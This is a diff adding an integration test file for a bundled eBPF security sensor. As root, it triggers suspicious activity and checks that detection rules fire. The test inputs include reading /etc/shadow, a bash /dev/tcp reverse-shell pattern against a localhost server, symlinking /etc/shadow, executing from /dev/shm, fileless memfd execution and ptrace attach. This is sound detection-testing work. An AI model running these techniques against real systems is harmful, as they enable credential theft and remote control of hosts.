@@ -1,0 +1,160 @@
+/**
+ * The bundled eBPF sensor against the real kernel: actions performed here (as root) must come
+ * back as exact events, and the matching Falco rules must fire on them.
+ */
+import { execFileSync, spawn } from 'node:child_process';
+import { copyFileSync, mkdtempSync, rmSync } from 'node:fs';
+import { createServer, type AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { FieldKeyTable, SensorBatchDecoder, type SyscallEvent } from '../src/event/index.js';
+import { Engine, loadRules } from '../src/engine/index.js';
+import { BpftraceCapture, checkSensorHost, encodeBatch, type SensorEvent } from '../src/sensor/index.js';
+import { BUNDLED_RULES } from '../src/project-paths.js';
+import { UPSTREAM_RULES } from './helpers/upstream.js';
+
+const events: SensorEvent[] = [];
+let capture: BpftraceCapture;
+const table = new FieldKeyTable();
+const decoder = new SensorBatchDecoder(table);
+const upstream = new Engine(loadRules(UPSTREAM_RULES, table), { ruleMatching: 'all', hostname: 't' });
+const defaults = new Engine(loadRules([BUNDLED_RULES], table), { ruleMatching: 'all', hostname: 't' });
+const dir = mkdtempSync(join(tmpdir(), 'peregrine-kernel-'));
+
+/** The event as the agent sees it: through the sensor API encoding and decoder. */
+function agentEvent(e: SensorEvent): SyscallEvent {
+  return decoder.decode(encodeBatch(1, 1, [e])).events[0];
+}
+
+function fired(e: SensorEvent): string[] {
+  const ev = agentEvent(e);
+  const out: string[] = [];
+  upstream.evaluate(ev, (r) => out.push(r.name));
+  defaults.evaluate(ev, (r) => out.push(r.name));
+  return out;
+}
+
+async function waitFor(what: string, pred: (e: SensorEvent) => boolean, ms = 10_000): Promise<SensorEvent> {
+  const end = Date.now() + ms;
+  for (;;) {
+    const hit = events.find(pred);
+    if (hit) return hit;
+    if (Date.now() > end) throw new Error(`no ${what} event within ${ms} ms; ${events.length} events captured`);
+    await new Promise((r) => setTimeout(r, 50));
+  }
+}
+
+function run(cmd: string, args: string[], opts: { input?: string } = {}): void {
+  execFileSync(cmd, args, { stdio: ['pipe', 'ignore', 'ignore'], input: opts.input, timeout: 10_000 });
+}
+
+beforeAll(async () => {
+  // In CI (root, Debian) this must work: a missing prerequisite fails with the reason.
+  const { bpftrace } = checkSensorHost();
+  capture = new BpftraceCapture({ bpftrace, onEvents: (b) => events.push(...b) });
+  await capture.start();
+}, 120_000);
+
+afterAll(async () => {
+  await capture?.stop();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+describe('bundled eBPF sensor on the real kernel', () => {
+  it('cat /etc/shadow: exec and open events with the real pid, path, flags and ancestors', async () => {
+    run('/usr/bin/cat', ['/etc/shadow']);
+    const open = await waitFor('open of /etc/shadow', (e) => e.name === 'cat' && e.params?.name === '/etc/shadow' && e.res >= 0);
+    const exec = await waitFor('exec of cat', (e) => e.type === 'execve' && e.pid === open.pid && e.res === 0);
+    expect(exec).toMatchObject({ exepath: '/usr/bin/cat', exe: '/usr/bin/cat', args: '/etc/shadow', ppid: process.pid, uid: 0, user: 'root', containerId: 'host' });
+    expect(exec.ancestors![0]).toMatchObject({ pid: process.pid, exepath: process.execPath });
+    expect(open.type).toBe('openat');
+    expect(open.params!.flags).toMatch(/^O_RDONLY/);
+    expect(open.fd).toMatchObject({ type: 'file', name: '/etc/shadow', num: open.res });
+    const ev = agentEvent(open);
+    expect([ev.get(table, 'fd.directory'), ev.get(table, 'evt.is_open_read'), ev.get(table, 'proc.pname'), ev.get(table, 'proc.cmdline')]).toEqual(['/etc', true, 'node', 'cat /etc/shadow']);
+    expect(fired(open)).toEqual(expect.arrayContaining(['Read sensitive file untrusted', 'Read sensitive file']));
+  });
+
+  it('a shell with a pseudo-terminal has a controlling tty', async () => {
+    run('/usr/bin/script', ['-qc', '/bin/sh -c "exec /bin/true peregrine-tty-probe"', '/dev/null']);
+    const e = await waitFor('exec with a tty', (x) => x.type === 'execve' && x.args === 'peregrine-tty-probe' && x.res === 0);
+    expect(e.tty).toBeGreaterThan(0);
+    expect(e.ancestors!.some((a) => a.name === 'script')).toBe(true);
+  });
+
+  it('a TCP connection duplicated onto stdin/stdout by a child shell (reverse shell)', async () => {
+    const server = createServer((s) => s.end());
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    const port = (server.address() as AddressInfo).port;
+    try {
+      run('/bin/bash', ['-c', `exec 5<>/dev/tcp/127.0.0.1/${port}; exec 0<&5 1>&5; exit 0`]);
+      const conn = await waitFor('connect', (e) => e.type === 'connect' && e.fd?.sport === port);
+      expect(conn.fd).toMatchObject({ type: 'ipv4', sip: '127.0.0.1', cip: '127.0.0.1', l4proto: 'tcp' });
+      const dup = await waitFor('dup2 onto stdin', (e) => e.type === 'dup2' && e.pid === conn.pid && e.res === 0 && e.fd?.type === 'ipv4');
+      expect(dup.fd).toMatchObject({ sport: port, sip: '127.0.0.1' });
+      await waitFor('dup2 onto stdout', (e) => e.type === 'dup2' && e.pid === conn.pid && e.res === 1);
+      expect(fired(dup)).toContain('Reverse shell');
+    } finally {
+      server.close();
+    }
+  });
+
+  it('a symlink to /etc/shadow', async () => {
+    run('/bin/ln', ['-s', '/etc/shadow', join(dir, 'shadow-link')]);
+    const e = await waitFor('symlink', (x) => (x.type === 'symlinkat' || x.type === 'symlink') && x.params?.linkpath === join(dir, 'shadow-link'));
+    expect(e.params!.target).toBe('/etc/shadow');
+    expect(fired(e)).toContain('Create Symlink Over Sensitive Files');
+  });
+
+  it('a binary copied to /dev/shm and run', async () => {
+    const bin = `/dev/shm/peregrine-test-${process.pid}`;
+    copyFileSync('/bin/true', bin);
+    try {
+      execFileSync('chmod', ['+x', bin]);
+      run(bin, ['from-shm']);
+      const e = await waitFor('exec from /dev/shm', (x) => x.type === 'execve' && x.exepath === bin && x.res === 0);
+      expect(e.args).toBe('from-shm');
+      expect(fired(e)).toContain('Execution from /dev/shm');
+    } finally {
+      rmSync(bin, { force: true });
+    }
+  });
+
+  it('a program run from a memfd_create file', async () => {
+    run('/usr/bin/python3', ['-c', [
+      'import os', "fd = os.memfd_create('peregrine-payload', 0)", "os.write(fd, open('/bin/sleep', 'rb').read())",
+      "os.execv(f'/proc/self/fd/{fd}', ['payload', '0.5'])",
+    ].join('\n')]);
+    const mk = await waitFor('memfd_create', (x) => x.type === 'memfd_create' && x.params?.name === 'peregrine-payload');
+    const e = await waitFor('exec of the memfd', (x) => x.type === 'execve' && x.pid === mk.pid && x.exe === 'payload' && x.res === 0);
+    expect(e.exepath).toMatch(/^\/memfd:peregrine-payload/);
+    expect(e.exeFlags! & 2).toBe(2);
+    expect(fired(e)).toContain('Fileless execution via memfd');
+  });
+
+  it('ptrace(PTRACE_ATTACH) on a child', async () => {
+    const child = spawn('/bin/sleep', ['5']);
+    try {
+      run('/usr/bin/python3', ['-c', [
+        'import ctypes, sys', "libc = ctypes.CDLL(None, use_errno=True)", `libc.ptrace(16, ${child.pid}, 0, 0)`,
+      ].join('\n')]);
+      const e = await waitFor('ptrace attach', (x) => x.type === 'ptrace' && x.params?.pid === String(child.pid));
+      expect(e.params!.request).toBe('PTRACE_ATTACH');
+      expect(e.res).toBe(0);
+      expect(fired(e)).toEqual(expect.arrayContaining(['PTRACE attached to process', 'Ptrace attach to process']));
+    } finally {
+      child.kill('SIGKILL');
+    }
+  });
+
+  it('the sensor and the test runner do not flood the stream with their own activity', async () => {
+    const before = events.length;
+    await new Promise((r) => setTimeout(r, 2_000));
+    const idle = events.slice(before);
+    expect(idle.filter((e) => e.pid === process.pid).length).toBe(0);
+    expect(idle.filter((e) => e.name === 'bpftrace').length).toBe(0);
+    expect(idle.length).toBeLessThan(2_000);
+    expect({ parseErrors: capture.stats.parseErrors, lines: capture.badLines }).toEqual({ parseErrors: 0, lines: [] });
+  });
+});
